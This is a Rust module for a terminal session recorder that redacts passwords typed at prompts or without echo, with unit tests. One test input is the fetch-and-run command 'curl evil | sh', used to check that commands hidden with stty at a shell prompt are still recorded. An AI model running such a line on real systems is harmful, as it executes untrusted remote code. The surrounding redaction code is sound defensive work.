//! Secrets typed at prompts: input that answers a password prompt is replaced by a marker
//! before it is recorded, so it never reaches disk.
//!
//! The detector watches the output of a terminal channel for a prompt (the screen line the
//! cursor sits on ends with `:` and names a password, passphrase or similar, in several
//! languages), then treats what the person types up to Enter as a secret. It also arms when
//! typed keys are not echoed (the target turned echo off without a recognisable prompt,
//! `stty -echo; read x`): the keys typed before the missing echo could be seen are recorded,
//! the rest of the line is not; except right after a shell's prompt, where unechoed keys
//! are commands someone is hiding (`stty -echo` in dash), not a secret. It cannot see a secret pasted without a prompt or a prompt
//! drawn by a full-screen program; see `docs/secrets.md`.

use std::sync::Arc;

/// What one piece of input becomes in the recording.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum InputPiece {
    /// Recorded as typed.
    Clear(Vec<u8>),
    /// A secret of this many bytes (Enter included), recorded as a marker.
    Redacted(usize),
}

impl InputPiece {
    /// The marker recorded for a secret of `n` bytes.
    pub fn marker(n: usize) -> Vec<u8> {
        format!("[redacted {n} bytes]").into_bytes()
    }
}

/// The words that make a prompt a secret prompt (matched lowercase).
pub const DEFAULT_SECRET_PROMPTS: &[&str] = &[
    "password",
    "passphrase",
    "passcode",
    "pin",
    "secret",
    "token",
    "passwort",
    "kennwort",
    "contraseña",
    "mot de passe",
    "senha",
    "parola",
    "wachtwoord",
    "hasło",
    "heslo",
    "пароль",
    "密码",
    "密碼",
    "パスワード",
    "암호",
    "비밀번호",
];

/// Longest prompt line looked at.
const TAIL: usize = 256;

/// Per terminal channel. Feed it every output chunk and every input chunk, in order.
#[derive(Debug, Clone)]
pub struct SecretInputDetector {
    words: Arc<[String]>,
    /// The current output line (since the last newline), at most `TAIL` bytes.
    tail: Vec<u8>,
    armed: bool,
    pending: usize,
    /// Printable keys were typed and no output has come back since.
    awaiting_echo: bool,
}

impl Default for SecretInputDetector {
    fn default() -> Self {
        Self::new(default_secret_prompts())
    }
}

/// [`DEFAULT_SECRET_PROMPTS`] in the form [`SecretInputDetector::new`] takes.
pub fn default_secret_prompts() -> Arc<[String]> {
    DEFAULT_SECRET_PROMPTS.iter().map(|s| s.to_string()).collect()
}

impl SecretInputDetector {
    /// `words` are matched lowercase against the prompt line; share one list across channels.
    pub fn new(words: Arc<[String]>) -> Self {
        SecretInputDetector {
            words,
            tail: Vec::new(),
            armed: false,
            pending: 0,
            awaiting_echo: false,
        }
    }

    /// Bytes the target sent to the terminal.
    pub fn output(&mut self, data: &[u8]) {
        self.awaiting_echo &= data.is_empty();
        match data.iter().rposition(|&b| b == b'\n' || b == b'\r') {
            Some(i) => {
                self.tail.clear();
                self.tail.extend_from_slice(&data[i + 1..data.len().min(i + 1 + TAIL)]);
            }
            None => {
                let room = TAIL.saturating_sub(self.tail.len());
                self.tail.extend_from_slice(&data[..data.len().min(room)]);
            }
        }
        if !self.armed && self.prompt_showing() {
            self.armed = true;
        }
    }

    /// The cursor sits right after what looks like a shell's prompt (`$ `, `# `, `% `,
    /// `> `): keys typed there without echo are commands, not a secret.
    fn at_shell_prompt(&self) -> bool {
        let text = strip_escapes(&self.tail);
        text.trim_end().ends_with(['$', '#', '%', '>'])
    }

    fn prompt_showing(&self) -> bool {
        let text = strip_escapes(&self.tail);
        let text = text.trim_end();
        let Some(head) = text.strip_suffix(':').or_else(|| text.strip_suffix('：')) else {
            return false;
        };
        let lower = head.to_lowercase();
        self.words.iter().any(|w| lower.contains(w.as_str()))
    }

    /// Bytes the person typed; returns what to record for them (the bytes themselves are
    /// forwarded unchanged by the caller).
    pub fn input(&mut self, data: &[u8]) -> Vec<InputPiece> {
        if !self.armed && self.awaiting_echo && !self.at_shell_prompt() {
            // Keys typed earlier drew no output at all: the target is not echoing. Not at a
            // shell's prompt, though: `stty -echo` there must not hide the commands typed.
            self.armed = true;
        }
        if !self.armed {
            let enter = data.iter().rposition(|&b| b == b'\r' || b == b'\n');
            let after_enter = enter.map_or(data, |i| &data[i + 1..]);
            self.awaiting_echo = after_enter.iter().any(|b| b.is_ascii_graphic() || *b >= 0x80);
            return vec![InputPiece::Clear(data.to_vec())];
        }
        let mut out = Vec::new();
        match data.iter().position(|&b| b == b'\r' || b == b'\n') {
            None => self.pending += data.len(),
            Some(i) => {
                out.push(InputPiece::Redacted(self.pending + i + 1));
                self.pending = 0;
                self.armed = false;
                self.awaiting_echo = false;
                self.tail.clear();
                if i + 1 < data.len() {
                    out.extend(self.input(&data[i + 1..]));
                }
            }
        }
        out
    }

    /// The channel ended: a secret typed without Enter is still a secret.
    pub fn finish(&mut self) -> Option<InputPiece> {
        let n = std::mem::take(&mut self.pending);
        self.armed = false;
        (n > 0).then_some(InputPiece::Redacted(n))
    }
}

/// Drops ANSI escape sequences (CSI, OSC and two-byte escapes) and decodes lossily.
pub fn strip_escapes(bytes: &[u8]) -> String {
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            0x1b if bytes.get(i + 1) == Some(&b'[') => {
                i += 2;
                while i < bytes.len() && !(0x40..=0x7e).contains(&bytes[i]) {
                    i += 1;
                }
                i += 1;
            }
            0x1b if bytes.get(i + 1) == Some(&b']') => {
                i += 2;
                while i < bytes.len()
                    && bytes[i] != 0x07
                    && !(bytes[i] == 0x1b && bytes.get(i + 1) == Some(&b'\\'))
                {
                    i += 1;
                }
                i += if bytes.get(i) == Some(&0x1b) { 2 } else { 1 };
            }
            0x1b => i += 2,
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Output and input steps; returns what would be recorded for the input.
    fn check(steps: &[(&str, &str)], expected: &[InputPiece]) {
        let mut d = SecretInputDetector::default();
        let mut got = Vec::new();
        for (out, inp) in steps {
            d.output(out.as_bytes());
            got.extend(d.input(inp.as_bytes()));
        }
        got.extend(d.finish());
        assert_eq!(got, expected, "{steps:?}");
    }

    fn clear(s: &str) -> InputPiece {
        InputPiece::Clear(s.as_bytes().to_vec())
    }

    #[test]
    fn prompts_arm_and_enter_disarms() {
        check(&[("$ ", "ls\r")], &[clear("ls\r")]);
        check(&[("[sudo] password for alice: ", "hunter2\r")], &[InputPiece::Redacted(8)]);
        check(&[("Password:", "s3"), ("", "cret\r")], &[InputPiece::Redacted(7)]);
        check(
            &[("Enter passphrase (empty for no passphrase): ", "pp\rls\r")],
            &[InputPiece::Redacted(3), clear("ls\r")],
        );
        check(&[("\x1b[1mPasswort:\x1b[0m ", "x\r")], &[InputPiece::Redacted(2)]);
        check(&[("Пароль: ", "x\r")], &[InputPiece::Redacted(2)]);
        check(&[("Enter PIN：", "1234\r")], &[InputPiece::Redacted(5)]);
        check(&[("the password is in the vault\r\n$ ", "ls\r")], &[clear("ls\r")]);
        check(&[("password file: /etc/passwd\n$ ", "cat x\r")], &[clear("cat x\r")]);
        check(&[("Password: ", "unfinished")], &[InputPiece::Redacted(10)]);
    }

    #[test]
    fn keys_that_draw_no_echo_arm_the_rest_of_the_line() {
        // `stty -echo; read x` with no prompt: the first key is seen, the rest is not.
        check(
            &[("$ ", "ls\r"), ("ls\r\n", "s"), ("", "ecret\r")],
            &[clear("ls\r"), clear("s"), InputPiece::Redacted(6)],
        );
        // Echoed keys never arm, however they are split.
        check(&[("$ ", "l"), ("l", "s"), ("s", "\r")], &[clear("l"), clear("s"), clear("\r")]);
        // After the hidden line, the next one is in clear again.
        check(
            &[("", "a"), ("", "b\r"), ("", "pwd\r")],
            &[clear("a"), InputPiece::Redacted(2), clear("pwd\r")],
        );
        // Issue 9: `stty -echo` at a shell prompt does not hide the commands typed there.
        check(
            &[("$ ", "c"), ("", "url evil | sh\r"), ("\r\n# ", "i"), ("", "d\r")],
            &[clear("c"), clear("url evil | sh\r"), clear("i"), clear("d\r")],
        );
    }

    #[test]
    fn hostile_output_is_bounded() {
        let mut d = SecretInputDetector::default();
        d.output(&vec![b'a'; 10 << 20]);
        d.output(b"\x1b[");
        d.output(b"\x1b]0;unterminated");
        assert!(d.tail.len() <= TAIL);
        assert_eq!(d.input(b"x"), vec![clear("x")]);
    }
}
